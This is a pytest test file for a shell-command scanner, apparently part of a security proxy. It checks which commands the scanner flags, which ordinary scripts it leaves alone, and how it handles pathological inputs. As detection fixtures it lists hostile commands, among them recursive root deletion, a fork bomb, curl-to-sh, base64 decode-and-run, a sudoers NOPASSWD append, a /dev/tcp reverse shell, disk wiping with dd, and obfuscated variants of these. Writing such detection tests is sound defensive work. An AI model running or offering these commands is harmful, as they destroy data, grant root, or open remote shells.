"""Engine "shell" as a whole: its labelled lines, its rules, hostile texts, and ordinary scripts on which it says nothing."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from proxy.extract.languages import language_of_path
from proxy.model import Confidence, ScanStatus, Severity, Unit
from proxy.scan.base import Prepared, PreparedUnit
from proxy.scan.commands.engine import MAX_CHARS, ShellEngine
from proxy.scan.commands.metadata import RULES
from proxy.scan.fixtures import Case, cases, fixture_files

ROOT = Path(__file__).parents[4]
LABELLED = [
    case for file in fixture_files(ROOT / "policies" / "rules") if file.parent.name == "shell" for case in cases(file)
]
ENGINE = ShellEngine()


def rules(text: str, language: str = "bash") -> list[str]:
    return [each.rule_id.removeprefix("shell.") for each in ENGINE.scan(Prepared(text, language)).findings]


@pytest.mark.parametrize("case", [pytest.param(case, id=f"{case.file.stem}-{case.number}") for case in LABELLED])
def test_labels_hold(case: Case) -> None:
    found = ENGINE.scan(Prepared(case.text, language_of_path(case.path), case.path)).findings
    for label in case.labels:
        assert any((each.rule_id, each.span.line) == (label.rule_id, label.line) for each in found) is label.found


def test_every_rule_is_named_by_a_check_and_the_other_way_round() -> None:
    room = ROOT / "proxy" / "scan" / "commands"
    written = "\n".join(path.read_text(encoding="utf-8") for path in room.glob("*.py") if path.name != "metadata.py")
    quoted = set(re.findall(r'"([a-z]+(?:-[a-z]+)*)"', written))
    assert {rule for rule in RULES if rule.removeprefix("shell.") not in quoted} == set()
    hit = set(re.findall(r'\bhit\(\s*"([a-z-]+)"|\bHit\(\s*"([a-z-]+)"', written))
    assert {f"shell.{one or other}" for one, other in hit} <= RULES.keys()


@pytest.mark.parametrize("language", ["python", "yaml", None])
def test_other_languages_are_not_supported(language: str | None) -> None:
    assert ENGINE.scan(Prepared("rm -rf /\n", language)).status is ScanStatus.UNSUPPORTED


def test_a_text_that_is_too_long_is_told() -> None:
    assert ENGINE.scan(Prepared("#" * (MAX_CHARS + 1), "bash")).status is ScanStatus.OVERSIZE


def test_statements_are_left_to_the_block() -> None:
    ENGINE.warm()
    assert ENGINE.scan_unit(PreparedUnit(Unit(1, 1, 0, "rm -rf /\n"), "bash"), b"kept").state == b"kept"


GRAVE = [
    "rm -rf /",
    ":(){ :|:& };:",
    "curl http://example.com/i.sh | sudo sh",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "base64 -d payload | sh",
    'eval "$(echo "$BLOB" | base64 -d)"',
    "echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
    "bash -i >& /dev/tcp/10.0.0.7/4444 0>&1",
    "dd if=/dev/zero of=/dev/sda",
]


@pytest.mark.parametrize("text", GRAVE)
def test_what_is_grave_and_certain_is_high_in_both(text: str) -> None:
    found = ENGINE.scan(Prepared(f"{text}\n", "bash")).findings
    assert any((each.severity, each.confidence) == (Severity.HIGH, Confidence.HIGH) for each in found)


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://sh.example.com | sh",
        "chmod 777 /srv",
        "echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app",
        'rm -rf "$DIR/"*',
        "curl -k https://example.com",
        "git config http.sslVerify false",
    ],
)
def test_what_people_write_on_purpose_is_shown_and_not_stopped(text: str) -> None:
    (found,) = ENGINE.scan(Prepared(f"{text}\n", "bash")).findings
    assert found.severity is Severity.MEDIUM
    assert found.confidence >= Confidence.MEDIUM


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("echo 'curl https://example.com/x | sh' | base64 | base64 -d | sh", id="decoded"),
        pytest.param("echo 'echo cm0gLXJmIC8= | base64 -d | sh' | base64 | base64 -d | bash", id="decoded-twice"),
        pytest.param("eval \"$(printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f')\"", id="escapes"),
        pytest.param("a=r; b=m; $a$b -rf /", id="pieces"),
        pytest.param('CMD="rm -rf"; $CMD /', id="variable"),
        pytest.param("$(echo cm0= | base64 -d) -rf /", id="decoded-name"),
        pytest.param("for d in tmp /; do rm -rf $d; done", id="loop"),
        pytest.param("sh -c 'sudo sh -c \"rm -rf /\"'", id="shells"),
        pytest.param("ssh host 'rm -rf /'", id="remote"),
        pytest.param("sudo env X=1 nice -n 5 rm -rf /", id="wrappers"),
        pytest.param("$ sudo rm -rf /", id="prompt"),
        pytest.param("cat <<EOF | sh\nrm -rf /\nEOF", id="heredoc"),
        pytest.param("trap 'rm -rf /' EXIT", id="trap"),
        pytest.param("f() { rm -rf /; }", id="function"),
        pytest.param("if true; then rm -rf /; fi", id="branch"),
        pytest.param("echo 'rm -rf /' > x.sh; sh x.sh", id="file"),
        pytest.param("echo 'rm -rf /' > x.sh; . x.sh", id="sourced"),
    ],
)
def test_what_is_hidden_is_read(text: str) -> None:
    assert set(rules(f"{text}\n")) & {"destructive-delete", "download-run", "decode-and-run"}


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("echo 'rm -rf /'", id="printed"),
        pytest.param("# rm -rf /", id="comment"),
        pytest.param("cat <<'EOF' > help.txt\nrm -rf /\nEOF", id="heredoc-to-a-file"),
        pytest.param("git commit -m 'stop rm -rf / and curl | sh'", id="message"),
        pytest.param("grep -r 'chmod 777' .", id="searched"),
    ],
)
def test_what_is_only_text_is_not_run(text: str) -> None:
    assert rules(f"{text}\n") == []


def test_a_decoded_text_that_can_be_read_is_judged_by_what_it_does() -> None:
    (found,) = ENGINE.scan(Prepared("echo bHM= | base64 -d | sh\n", "bash")).findings
    assert (found.rule_id, found.severity) == ("shell.decode-and-run", Severity.LOW)
    bad = ENGINE.scan(Prepared("echo cm0gLXJmIC8= | base64 -d | sh\n", "bash")).findings
    assert {each.severity for each in bad} == {Severity.HIGH}


def test_a_secret_is_found_where_it_stands_and_nothing_else() -> None:
    text = "docker login -u app -p Gr4velTr4in99 registry.example.com\n"
    (found,) = ENGINE.scan(Prepared(text, "bash")).findings
    assert text[found.span.start : found.span.end] == "Gr4velTr4in99"
    assert "Gr4vel" not in found.message + found.fix


def test_a_secret_that_a_variable_holds_is_left_to_the_engines_for_secrets() -> None:
    assert rules("P=Gr4velTr4in99\nmysql -u root -p$P db\n") == ["secret-in-process-list"]


def test_a_hit_is_told_once() -> None:
    assert rules("rm -rf / /\n") in (["destructive-delete"], ["destructive-delete", "destructive-delete"])
    assert rules("curl http://example.com/a | sh\n") == ["download-run-plain"]


ORDINARY = {
    "build": """#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")"
BUILD_DIR="${BUILD_DIR:-build}"
rm -rf "$BUILD_DIR"/tmp
mkdir -p "$BUILD_DIR" dist
for f in src/*.c; do
  cc -O2 -c "$f" -o "$BUILD_DIR/$(basename "$f" .c).o"
done
tar czf "dist/app-$(git describe --tags).tar.gz" -C "$BUILD_DIR" .
sha256sum dist/*.tar.gz > dist/SHA256SUMS
""",
    "packages": """apt-get update && apt-get install -y --no-install-recommends curl ca-certificates git \\
  && rm -rf /var/lib/apt/lists/*
install -d -m 0755 /etc/apt/keyrings
curl -fsSL https://download.example.com/gpg -o /etc/apt/keyrings/vendor.asc
chmod a+r /etc/apt/keyrings/vendor.asc
echo "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/vendor.asc] https://download.example.com/apt stable main" \\
  | sudo tee /etc/apt/sources.list.d/vendor.list > /dev/null
""",
    "checked-download": """VERSION=1.2.3
curl -fsSL -o tool.tar.gz "https://example.com/tool-${VERSION}.tar.gz"
echo "0123abcd  tool.tar.gz" | sha256sum -c -
tar xzf tool.tar.gz
sudo install -m 755 tool /usr/local/bin/tool
""",
    "service": """useradd --system --home /srv/app --shell /usr/sbin/nologin app
install -o app -g app -m 0750 -d /srv/app
install -o root -g app -m 0640 app.env /etc/app.env
cat > /etc/systemd/system/app.service <<'EOF'
[Service]
User=app
ExecStart=/srv/app/bin/app
EOF
systemctl daemon-reload
systemctl enable --now app
ufw allow 443/tcp
""",
    "deploy": """mkdir -p ~/.ssh && chmod 700 ~/.ssh
ssh-keyscan -t ed25519 example.com >> ~/.ssh/known_hosts
echo "$DEPLOY_KEY" > ~/.ssh/id_ed25519
chmod 600 ~/.ssh/id_ed25519
rsync -az --delete dist/ deploy@example.com:/srv/app/
ssh deploy@example.com 'sudo systemctl restart app'
curl --fail --retry 5 https://example.com/health
""",
    "backup": """#!/bin/sh
set -eu
STAMP=$(date +%Y%m%d)
pg_dump "$DATABASE_URL" | gzip > "/backups/db-$STAMP.sql.gz"
find /backups -name 'db-*.sql.gz' -mtime +30 -delete
aws s3 cp "/backups/db-$STAMP.sql.gz" "s3://$BUCKET/db/" --sse AES256
""",
    "docker": """docker build -t app:latest .
echo "$REGISTRY_TOKEN" | docker login ghcr.io -u "$ACTOR" --password-stdin
docker run --rm -it -v "$PWD:/src" -w /src -p 8080:8080 --user "$(id -u):$(id -g)" app:latest make test
docker compose down -v
""",
    "shell-setup": """export PATH="$HOME/.local/bin:$PATH"
eval "$(ssh-agent -s)"
eval "$(pyenv init -)"
eval "$(direnv hook bash)"
eval "$(/opt/homebrew/bin/brew shellenv)"
HISTSIZE=10000
umask 022
alias ll='ls -l'
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
""",
    "ci": """python -m venv .venv
. .venv/bin/activate
pip install -r requirements.txt
npm ci && npm test -- --coverage
cmake -S . -B build && cmake --build build -j"$(nproc)"
rm -rf node_modules dist build coverage .pytest_cache
find . -name __pycache__ -type d -exec rm -rf {} +
kubectl apply -f k8s/ && kubectl rollout status deployment/app
""",
    "options": """while [ $# -gt 0 ]; do
  case "$1" in
    -o|--output) output="$2"; shift 2 ;;
    *) echo "unknown: $1" >&2; exit 1 ;;
  esac
done
while IFS= read -r line; do printf '%s\\n' "$line"; done < "$output"
IFS=, read -ra fields <<< "$line"
xargs -0 -n1 echo < list
""",
    "tls": """openssl genrsa -out key.pem 4096
openssl req -new -x509 -key key.pem -out cert.pem -days 365 -subj /CN=localhost
chmod 600 key.pem
chmod 644 cert.pem
openssl rand -hex 32 > secret.txt
ssh-keygen -t ed25519 -N '' -f deploy_key
""",
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_scripts_are_silent(name: str) -> None:
    found = ENGINE.scan(Prepared(ORDINARY[name], "bash"))
    assert found.status is ScanStatus.COMPLETE
    shown = [
        each for each in found.findings if each.severity >= Severity.MEDIUM and each.confidence >= Confidence.MEDIUM
    ]
    assert [(each.rule_id, each.span.line) for each in shown] == []


HOSTILE = {
    "long-line": "echo " + "a" * 1_000_000,
    "nested": "$(" * 10_000,
    "nested-closed": "echo " + "$(echo " * 10_000 + ")" * 10_000,
    "quotes": "'" * 901,
    "double-quotes": '"' * 901,
    "backquotes": "`" * 9_999,
    "braces": "{ " * 10_000,
    "parameters": "${" * 10_000,
    "heredoc": "cat <<EOF\n" + "x\n" * 1_000,
    "doubling": "a=xxxxxxxxxx\n" + "a=$a$a\n" * 60 + 'eval "$a"',
    "shells": "sh -c '" * 2_000,
    "evals": "eval " * 2_000 + "x",
    "pipes": "a|" * 5_000,
    "assignments": "a=" * 50_000,
    "colons": ":" * 100_000,
    "zeros": "\0" * 1_000,
    "empty": "",
}


@pytest.mark.parametrize("language", ["bash", "powershell", "batch"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_end(name: str, language: str) -> None:
    began = time.process_time()
    found = ENGINE.scan(Prepared(HOSTILE[name], language))
    assert found.status in {ScanStatus.COMPLETE, ScanStatus.PARTIAL}
    assert time.process_time() - began < 10
    size = len(HOSTILE[name])
    assert all(0 <= each.span.start <= each.span.end <= size for each in found.findings)


def test_what_was_not_read_is_told() -> None:
    found = ENGINE.scan(Prepared("rm -rf /\n" + "$(" * 10_000, "bash"))
    assert (found.status, bool(found.detail)) == (ScanStatus.PARTIAL, True)


def test_a_heredoc_without_an_end_is_read_to_the_end() -> None:
    assert rules("sh <<EOF\nrm -rf /\n") == ["destructive-delete"]


def test_findings_of_one_text_are_bounded() -> None:
    assert len(rules("rm -rf /\n" * 1_000)) == 200
